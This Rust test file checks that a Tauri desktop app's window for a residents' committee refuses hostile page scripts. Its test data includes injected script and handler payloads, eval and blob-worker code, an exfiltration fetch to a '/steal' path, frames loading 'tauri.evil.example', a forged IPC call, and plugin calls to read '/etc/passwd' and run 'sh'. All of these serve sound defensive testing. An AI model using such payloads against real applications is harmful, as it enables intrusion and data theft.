//! The real window: what a page, a frame, a script in a name or another origin could ask of the program behind it.

use linli_tests::process::{linli, soon};
use linli_tests::webdriver::{Display, Window};
use serde_json::{Value, json};
use std::net::TcpListener;
use std::sync::{Mutex, MutexGuard, PoisonError};
use tempfile::TempDir;

/// One window at a time: a display and a driver each are much for a small machine.
static TURN: Mutex<()> = Mutex::new(());

struct Attacked {
    window: Window,
    _display: Display,
    dir: TempDir,
    _turn: MutexGuard<'static, ()>,
}

impl Attacked {
    fn new() -> Attacked {
        let turn = TURN.lock().unwrap_or_else(PoisonError::into_inner);
        let dir = tempfile::tempdir().unwrap();
        let founder = json!({"name": "春晖居委会", "staff_name": "王芳", "device_name": "前台"}).to_string();
        linli(dir.path(), &["call", "create_committee", &founder]).unwrap();
        let display = Display::start("1366x768");
        let window = Window::open(&display, dir.path());
        window.shows("春晖居委会");
        Attacked {
            window,
            _display: display,
            dir,
            _turn: turn,
        }
    }

    /// What a script ends in: its value, or how it was refused.
    fn tries(&self, script: &str) -> Value {
        self.window.eventually(&format!("(async () => {{ {script} }})()"))
    }

    /// Nothing was written, and the desk still works.
    fn unharmed(self) {
        self.window.shows("春晖居委会");
        let compounds = self.tries("return await window.__TAURI_INTERNALS__.invoke('call', {name: 'list_compounds', args: {}, lang: 'zh'})");
        assert_eq!(compounds, json!([]), "something was written");
        self.window.close();
        assert_eq!(
            linli(self.dir.path(), &["verify"]).unwrap()["projections_ok"],
            true
        );
    }
}

const ADD: &str =
    "window.__TAURI_INTERNALS__.invoke('call', {name: 'add_compound', args: {name: 'x'}, lang: 'zh'})";

#[test]
pub fn tauri_is_not_handed_to_every_script() {
    // No log: what is not there cannot be asked.
    let it = Attacked::new();
    assert_eq!(it.tries("return typeof window.__TAURI__"), "undefined");
    it.unharmed();
}

#[test]
pub fn a_script_written_into_the_page() {
    // No log: the web view stops it; the program is never asked.
    let it = Attacked::new();
    let inline = format!(
        "const s = document.createElement('script'); s.textContent = \"window.ran = 1; {}\"; document.body.append(s);
         await new Promise((r) => setTimeout(r, 300)); return window.ran ?? 'stopped'",
        ADD.replace('"', "\\\"")
    );
    assert_eq!(it.tries(&inline), "stopped");
    let handler = "const i = document.createElement('div'); i.innerHTML = '<img src=x onerror=\"window.ran = 2\"><a href=\"javascript:window.ran = 3\">x</a>';
        document.body.append(i); i.querySelector('a').click(); await new Promise((r) => setTimeout(r, 300)); return window.ran ?? 'stopped'";
    assert_eq!(it.tries(handler), "stopped");
    it.unharmed();
}

/// WebAssembly is not among it: WebKitGTK asks no policy for that; Chromium does (`camera.spec.ts`).
#[test]
pub fn a_script_that_makes_code_at_run_time() {
    // No log: the web view stops it; the program is never asked.
    let it = Attacked::new();
    for script in [
        "return await new Promise((r) => r(eval('1'))).then(() => 'ran', () => 'stopped')",
        "return await new Promise((r) => r(new Function('return 1')())).then(() => 'ran', () => 'stopped')",
        "return await new Promise((r, no) => { const w = new Worker(URL.createObjectURL(new Blob(['postMessage(1)']))); w.onmessage = r; w.onerror = no; setTimeout(no, 2000) }).then(() => 'ran', () => 'stopped')",
    ] {
        assert_eq!(it.tries(script), "stopped", "{script}");
    }
    it.unharmed();
}

#[test]
pub fn a_script_from_elsewhere() {
    // No log: the web view stops it; the program is never asked.
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    listener.set_nonblocking(true).unwrap();
    let it = Attacked::new();
    let there = format!("http://{}", listener.local_addr().unwrap());
    for script in [
        format!(
            "const s = document.createElement('script'); s.src = '{there}/x.js'; document.body.append(s); await new Promise((r) => setTimeout(r, 400)); return 'done'"
        ),
        format!(
            "return await fetch('{there}/steal?x=1', {{mode: 'no-cors'}}).then(() => 'sent', () => 'stopped')"
        ),
        format!(
            "return await new Promise((r) => {{ const i = new Image(); i.onload = () => r('sent'); i.onerror = () => r('stopped'); i.src = '{there}/x.png' }})"
        ),
        format!(
            "try {{ new WebSocket('{}') }} catch {{}} await new Promise((r) => setTimeout(r, 300)); return 'done'",
            there.replace("http", "ws")
        ),
    ] {
        assert_ne!(it.tries(&script), "sent", "{script}");
    }
    assert!(listener.accept().is_err(), "the window spoke to somebody else");
    it.unharmed();
}

#[test]
pub fn a_frame_that_calls_the_program() {
    // No log: the web view stops it; the program is never asked.
    let it = Attacked::new();
    for source in [
        "f.src = 'data:text/html,<script>parent.ran = 1<\\/script>'".to_owned(),
        "f.src = 'https://tauri.evil.example/'".to_owned(),
        format!("f.srcdoc = `<script>parent.ran = 1; parent.{ADD}<\\/script>`"),
    ] {
        let script = format!(
            "const f = document.createElement('iframe'); {source}; document.body.append(f);
             await new Promise((r) => setTimeout(r, 500)); return window.ran ?? 'stopped'"
        );
        assert_eq!(it.tries(&script), "stopped", "{source}");
    }
    it.unharmed();
}

#[test]
pub fn a_window_led_to_another_origin() {
    // No log: the web view stops it; the program is never asked.
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    listener.set_nonblocking(true).unwrap();
    let it = Attacked::new();
    let there = listener.local_addr().unwrap();
    for script in [
        format!("location.href = 'http://{there}/'; await new Promise((r) => setTimeout(r, 500)); return location.href"),
        "location.href = 'http://tauri.evil.example/'; await new Promise((r) => setTimeout(r, 500)); return location.href".to_owned(),
        format!("window.open('http://{there}/'); await new Promise((r) => setTimeout(r, 500)); return location.href"),
        format!("const f = document.createElement('form'); f.action = 'http://{there}/'; f.method = 'post'; document.body.append(f); f.submit(); await new Promise((r) => setTimeout(r, 500)); return location.href"),
    ] {
        let where_now = it.tries(&script);
        assert!(where_now.as_str().is_some_and(|url| url.starts_with("tauri://localhost")), "{where_now}");
    }
    assert!(listener.accept().is_err(), "another page was asked for");
    it.unharmed();
}

#[test]
pub fn a_call_with_a_key_that_is_not_the_windows() {
    // No log: the frame around the program drops it; the program is never asked.
    let it = Attacked::new();
    let forged = "return await Promise.race([new Promise((r) => setTimeout(() => r('no answer'), 2000)), fetch('ipc://localhost/call', {method: 'POST', headers: {'Tauri-Callback': '1', 'Tauri-Error': '2', 'Tauri-Invoke-Key': 'guess', 'Content-Type': 'application/json'},
        body: JSON.stringify({name: 'add_compound', args: {name: 'x'}, lang: 'zh'})}).then((a) => a.headers.get('Tauri-Response') + ' ' + a.status, () => 'stopped')])";
    let said = it.tries(forged);
    assert!(!said.as_str().unwrap_or_default().starts_with("ok"), "{said}");
    it.unharmed();
}

#[test]
pub fn commands_nobody_gave_the_window() {
    // No log: the frame around the program refuses it; the program is never asked.
    let it = Attacked::new();
    for (command, args) in [
        ("plugin:dialog|open", "{options: {}}"),
        ("plugin:dialog|save", "{options: {}}"),
        ("plugin:fs|read_text_file", "{path: '/etc/passwd'}"),
        ("plugin:shell|execute", "{program: 'sh', args: []}"),
        ("plugin:opener|open_url", "{url: 'http://x'}"),
        ("plugin:window|close", "{label: 'main'}"),
        ("plugin:window|create", "{options: {label: 'x', url: 'http://x'}}"),
        (
            "plugin:webview|create_webview_window",
            "{options: {label: 'x', url: 'http://x'}}",
        ),
        ("plugin:webview|internal_toggle_devtools", "{}"),
        ("plugin:event|emit", "{event: 'changed', payload: []}"),
        ("plugin:path|resolve_directory", "{directory: 1}"),
        ("plugin:app|app_hide", "{}"),
        ("no_such_command", "{}"),
    ] {
        let script = format!(
            "return await window.__TAURI_INTERNALS__.invoke('{command}', {args}).then((v) => 'allowed ' + JSON.stringify(v), (e) => 'refused ' + e)"
        );
        let said = it.tries(&script);
        assert!(
            said.as_str().is_some_and(|text| text.starts_with("refused")),
            "{command}: {said}"
        );
    }
    it.unharmed();
}

#[test]
pub fn a_call_with_a_role_it_says_itself() {
    let it = Attacked::new();
    for args in [
        "{name: 'add_compound', args: {name: 'x', role: 'town'}, lang: 'zh', role: 'town'}",
        "{name: 'add_compound', args: {name: 'x', staff: '00000000-0000-0000-0000-000000000000'}, lang: 'zh'}",
        "{name: '__proto__', args: {}, lang: 'zh'}",
        "{name: 'add_compound', args: {name: 5}, lang: 'zh'}",
    ] {
        let script = format!(
            "return await window.__TAURI_INTERNALS__.invoke('call', {args}).then(() => 'allowed', (e) => e.code ?? String(e))"
        );
        let said = it.tries(&script);
        assert!(
            ["bad_arguments", "no_such_call"].contains(&said.as_str().unwrap_or_default()),
            "{args}: {said}"
        );
        let told = format!("code={said}");
        let logged = |line: &str| line.contains("a call was refused") && line.contains(&told);
        soon("it stands in the log", || it.window.log().lines().any(logged));
    }
    it.unharmed();
}

#[test]
pub fn the_windows_rights_are_the_least_and_stay_so() {
    // No log: nothing is asked; the files say what could be. State: they are what they are.
    let folder = std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("../src-tauri");
    let read = |name: &str| std::fs::read_to_string(folder.join(name)).unwrap();
    let capability: Value = serde_json::from_str(&read("capabilities/main.json")).unwrap();
    assert_eq!(
        capability["permissions"],
        json!(["core:event:allow-listen", "core:event:allow-unlisten"])
    );
    assert_eq!(
        (&capability["windows"], &capability["remote"]),
        (&json!(["main"]), &Value::Null)
    );
    assert_eq!(std::fs::read_dir(folder.join("capabilities")).unwrap().count(), 1);
    let config: Value = serde_json::from_str(&read("tauri.conf.json")).unwrap();
    let (app, security) = (&config["app"], &config["app"]["security"]);
    assert_eq!(
        (&app["withGlobalTauri"], &security["freezePrototype"]),
        (&json!(false), &json!(true))
    );
    assert!(
        security["assetProtocol"].is_null() && security["dangerousDisableAssetCspModification"].is_null()
    );
    assert_eq!(
        security["headers"],
        json!({"Permissions-Policy": "camera=(self), microphone=(), geolocation=(), display-capture=()"})
    );
    let policy = security["csp"].as_str().unwrap();
    assert!(policy.contains("default-src 'self'") && policy.contains("object-src 'none'"));
    for part in policy.split(';') {
        assert!(
            !part.contains("unsafe-eval")
                && (!part.contains("unsafe-inline") || part.trim().starts_with("style-src")),
            "{part}"
        );
    }
    // In a release nobody can look into the window with an inspector.
    let manifest = read("Cargo.toml");
    assert!(!manifest.contains("devtools"), "{manifest}");
}
